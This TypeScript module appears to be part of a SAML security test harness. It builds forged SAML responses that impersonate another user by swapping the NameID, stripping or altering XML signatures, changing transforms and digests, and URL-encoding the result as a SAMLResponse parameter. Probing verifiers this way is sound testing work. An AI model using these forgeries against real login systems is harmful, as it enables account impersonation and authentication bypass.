/** What the messages of several files are made of, out of a stage. */
import { toPosted } from '../signing/saml-signer.ts'
import type { Message, Stage } from './entry.ts'
import { digestOf, idOf, targetOf, targetSignature } from './signing.ts'
import {
  DS,
  FORGED,
  elementIn,
  put,
  replaceElement,
  setText,
  nameIdOf,
  withoutSignatures,
} from './text.ts'

/** The seed in another name, its outermost signature changed, and no other signature left. */
export function forgedUnder(stage: Stage, change: (signature: string) => string): string {
  const forged = setText(stage.seed.xml, 'NameID', FORGED)
  const inner = stage.pieces.assertionSignature
  const bare = targetOf(stage) === 'Response' && inner !== '' ? put(forged, inner, '') : forged
  return put(bare, targetSignature(stage), change(targetSignature(stage)))
}

/** The genuine response, its outermost signature changed: nothing in it is signed by what is around it. */
export const genuineUnder = (stage: Stage, change: (signature: string) => string): string =>
  put(stage.seed.xml, targetSignature(stage), change(targetSignature(stage)))

export const withTransforms =
  (transforms: string) =>
  (signature: string): string =>
    replaceElement(
      signature,
      'Transforms',
      `<ds:Transforms xmlns:ds="${DS}">${transforms}</ds:Transforms>`,
    )

export const forgedDigest = (stage: Stage): Promise<string> => {
  const xml = forgedUnder(stage, (signature) => signature)
  return digestOf(xml, idOf(xml, targetOf(stage)))
}
export const digestIn = (signature: string): string =>
  />([^<]*)</.exec(elementIn(signature, 'DigestValue'))?.[1] ?? ''
export const innerOf = (element: string): string =>
  element.replace(/^<[^>]*>/, '').replace(/<\/[^>]*>$/, '')

/** A change to the start tag of the element that carries the outermost signature, in a forged message. */
export function onTarget(
  stage: Stage,
  change: (xml: string, of: 'Assertion' | 'Response', id: string) => string,
): string {
  const of = targetOf(stage)
  const xml = forgedUnder(stage, (signature) => signature)
  return change(xml, of, idOf(xml, of))
}

/** The seed in the attacker's name and without a signature. */
export const forgedUnsigned = ({ seed }: Stage): string =>
  setText(withoutSignatures(seed.xml), 'NameID', FORGED)

/** The seed with its NameID written otherwise. */
export const named =
  (change: (genuine: string) => string) =>
  ({ seed }: Stage): string =>
    setText(seed.xml, 'NameID', change(nameIdOf(seed.xml)))
/** Something put after the second character of a name. */
export const inStart = (text: string) => (genuine: string) =>
  genuine.slice(0, 2) + text + genuine.slice(2)

export const field = (value: string): Message => ({ kind: 'field', value })
export const form = (body: string, query = ''): Message => ({ kind: 'form', body, query })
export const parameter = (xml: string): string =>
  `SAMLResponse=${encodeURIComponent(toPosted(xml))}`
